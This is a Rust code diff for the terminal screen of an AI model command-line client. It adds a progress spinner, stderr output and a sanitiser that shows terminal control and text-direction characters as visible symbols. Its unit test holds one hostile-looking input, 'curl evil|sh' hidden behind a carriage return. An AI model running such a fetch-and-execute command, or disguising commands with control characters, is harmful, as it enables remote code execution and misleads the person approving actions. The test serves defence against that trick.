@@ -1,6 +1,10 @@
 //! What a person in a terminal sees.
 
-use std::io::{self, IsTerminal, Write};
+use std::{
+    borrow::Cow,
+    io::{self, IsTerminal, Write},
+    time::{Duration, Instant},
+};
 
 use crate::{
     protocol::{
@@ -10,11 +14,26 @@ use crate::{
     transcript,
 };
 
+/// How often a sign of life is drawn.
+pub const TICK: Duration = Duration::from_millis(120);
+
 /// Writes for people: in colour on a terminal, unless `NO_COLOR` is set.
 pub struct Screen {
+    terminal: bool,
     colour: bool,
+    /// Everything goes to the standard error.
+    is_aside: bool,
     /// True while a line of the model's answer is open.
     in_text: bool,
+    /// A sign of life while nothing else is to be seen; on terminals only.
+    spinner: Option<Spinner>,
+}
+
+struct Spinner {
+    /// Since when there is nothing to see.
+    since: Instant,
+    frame: usize,
+    is_drawn: bool,
 }
 
 #[derive(Clone, Copy)]
@@ -30,12 +49,61 @@ pub enum Style {
 
 impl Screen {
     pub fn new() -> Self {
-        let colour = io::stdout().is_terminal() && std::env::var_os("NO_COLOR").is_none_or(|value| value.is_empty());
-        Self { colour, in_text: false }
+        Self::on(io::stdout().is_terminal(), false)
     }
 
-    /// `text` in a style, for use inside a line.
+    /// For when the standard output is for something else.
+    pub fn aside() -> Self {
+        Self::on(io::stderr().is_terminal(), true)
+    }
+
+    fn on(terminal: bool, is_aside: bool) -> Self {
+        let colour = terminal && std::env::var_os("NO_COLOR").is_none_or(|value| value.is_empty());
+        // A terminal that can do nothing cannot take a line back either.
+        let can_redraw = terminal && io::stderr().is_terminal() && std::env::var("TERM").is_ok_and(|t| t != "dumb");
+        let spinner = can_redraw.then(|| Spinner { since: Instant::now(), frame: 0, is_drawn: false });
+        Self { terminal, colour, is_aside, in_text: false, spinner }
+    }
+
+    fn write(&mut self, text: &str) {
+        self.still();
+        // A closed pipe ends what is shown, not the work.
+        let _ = match self.is_aside {
+            true => io::stderr().write_all(text.as_bytes()),
+            false => io::stdout().write_all(text.as_bytes()).and_then(|()| io::stdout().flush()),
+        };
+    }
+
+    /// Shows that the work goes on, once nothing has been written for a while.
+    pub fn tick(&mut self) {
+        const FRAMES: [char; 10] = ['⠋', '⠙', '⠹', '⠸', '⠼', '⠴', '⠦', '⠧', '⠇', '⠏'];
+        /// Before that, it would only flicker.
+        const QUIET: Duration = Duration::from_millis(600);
+        let Some(spinner) = self.spinner.as_mut().filter(|_| !self.in_text) else { return };
+        let waited = spinner.since.elapsed();
+        if waited < QUIET {
+            return;
+        }
+        spinner.frame += 1;
+        spinner.is_drawn = true;
+        let frame = FRAMES[spinner.frame % FRAMES.len()];
+        let _ = write!(io::stderr(), "\r{frame} {} s", waited.as_secs());
+        let _ = io::stderr().flush();
+    }
+
+    /// Takes the sign of life away.
+    pub fn still(&mut self) {
+        let Some(spinner) = &mut self.spinner else { return };
+        spinner.since = Instant::now();
+        if std::mem::take(&mut spinner.is_drawn) {
+            let _ = write!(io::stderr(), "\r\x1b[K");
+            let _ = io::stderr().flush();
+        }
+    }
+
+    /// `text` in a style, for use inside a line. On a terminal nothing in it moves the cursor or turns the text around.
     pub fn paint(&self, style: Style, text: &str) -> String {
+        let text = &*if self.terminal { visible(text) } else { Cow::Borrowed(text) };
         let code = match style {
             Style::Plain => return text.to_owned(),
             Style::Dim => "2",
@@ -48,27 +116,39 @@ impl Screen {
         if self.colour { format!("\x1b[{code}m{text}\x1b[0m") } else { text.to_owned() }
     }
 
+    /// Writes a line of several styles.
+    pub fn parts(&mut self, parts: &[(Style, &str)]) {
+        let end = if std::mem::take(&mut self.in_text) { "\n" } else { "" };
+        let line: String = parts.iter().map(|(style, text)| self.paint(*style, text)).collect();
+        self.write(&format!("{end}{line}\n"));
+    }
+
     /// Writes whole lines; an open line of the answer is ended first.
     pub fn line(&mut self, style: Style, text: &str) {
         let end = if std::mem::take(&mut self.in_text) { "\n" } else { "" };
         let lines: String = text.lines().map(|line| self.paint(style, line) + "\n").collect();
-        // A closed pipe ends what is shown, not the work.
-        let _ = write!(io::stdout(), "{end}{lines}");
-        let _ = io::stdout().flush();
+        self.write(&format!("{end}{lines}"));
     }
 
     /// Writes a line that is about the answer and no part of it.
-    fn aside(&mut self, text: &str) {
+    fn note(&mut self, text: &str) {
         if std::mem::take(&mut self.in_text) {
-            let _ = writeln!(io::stdout());
+            self.write("\n");
         }
-        let _ = writeln!(io::stderr(), "{text}");
+        self.still();
+        let _ = writeln!(io::stderr(), "{}", visible(text));
+    }
+
+    /// What the person said.
+    pub fn prompt(&mut self, text: &str) {
+        for line in text.lines() {
+            self.line(Style::Bold, &format!("> {line}"));
+        }
     }
 
     /// Writes a piece of the model's answer.
     pub fn text(&mut self, style: Style, text: &str) {
-        let _ = write!(io::stdout(), "{}", self.paint(style, text));
-        let _ = io::stdout().flush();
+        self.write(&self.paint(style, text));
         self.in_text = !text.ends_with('\n');
     }
 
@@ -150,7 +230,9 @@ impl Screen {
                 if let Some(error) = error {
                     self.line(Style::Red, error);
                 }
-                self.aside(&usage_line(usage));
+                if usage.input_tokens.is_some() || usage.output_tokens.is_some() {
+                    self.note(&usage_line(usage));
+                }
             }
             SessionEvent::TurnStarted { .. }
             | SessionEvent::TurnSteered { .. }
@@ -162,7 +244,9 @@ impl Screen {
             | SessionEvent::Usage { .. }
             | SessionEvent::CommandsChanged { .. }
             | SessionEvent::ToolsChanged { .. }
-            | SessionEvent::SessionConfigured { .. } => {}
+            | SessionEvent::Changes { .. }
+            | SessionEvent::SessionConfigured { .. }
+            | SessionEvent::SessionRenamed { .. } => {}
         }
     }
 
@@ -195,7 +279,7 @@ impl Screen {
 
 /// Asks on the terminal until the answer is one. Blocks; `None` at the end of the input.
 pub fn ask(approval: &Approval) -> Option<ApprovalDecision> {
-    let rules = approval.rules.join(", ");
+    let rules = visible(&approval.rules.join(", ")).into_owned();
     let session = if rules.is_empty() { String::new() } else { format!(", [s] yes to {rules} in this session") };
     loop {
         let _ = write!(io::stdout(), "  [y] yes, once{session}, [n REASON] no, [c] no, and stop the turn > ");
@@ -206,7 +290,7 @@ pub fn ask(approval: &Approval) -> Option<ApprovalDecision> {
         }
         let line = line.trim();
         let (word, rest) = line.split_once(char::is_whitespace).unwrap_or((line, ""));
-        let allow = |scope| Some(ApprovalDecision::Allow { scope, input: None, hunks: None });
+        let allow = |scope| Some(ApprovalDecision::Allow { scope, input: None, hunks: None, rules: None });
         match word.to_lowercase().as_str() {
             "y" | "yes" => return allow(ApprovalScope::Once),
             "s" if !rules.is_empty() => return allow(ApprovalScope::Session),
@@ -255,4 +339,34 @@ fn usage_line(usage: &Usage) -> String {
     let cached = usage.cache_read_tokens.map(|tokens| format!(", {tokens} from cache")).unwrap_or_default();
     let cost = usage.cost.map(|cost| format!(", {}", transcript::Cost::from(cost))).unwrap_or_default();
     format!("{} tokens in{cached}, {} out{cost}", count(usage.input_tokens), count(usage.output_tokens))
+}
+
+/// The text with a sign in the place of each character that would do something on a terminal: what others wrote must not
+/// overwrite what the person reads.
+pub fn visible(text: &str) -> Cow<'_, str> {
+    let acts = |c: char| {
+        (c.is_control() && !matches!(c, '\n' | '\t'))
+            || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+    };
+    if !text.contains(acts) {
+        return Cow::Borrowed(text);
+    }
+    let show = |c: char| match c {
+        c if !acts(c) => c,
+        '\0'..='\x1f' => char::from_u32(0x2400 + c as u32).unwrap_or('\u{fffd}'),
+        '\x7f' => '\u{2421}',
+        _ => '\u{fffd}',
+    };
+    Cow::Owned(text.replace("\r\n", "\n").chars().map(show).collect())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_would_overwrite_the_line_is_shown_and_not_done() {
+        assert_eq!(visible("curl evil|sh #\r    $ ls -l"), "curl evil|sh #␍    $ ls -l");
+        assert_eq!(visible("a\x1b[2K\u{202e}b\x7f\u{9b}c\tü\r\n"), "a␛[2K\u{fffd}b␡\u{fffd}c\tü\n");
+    }
 }
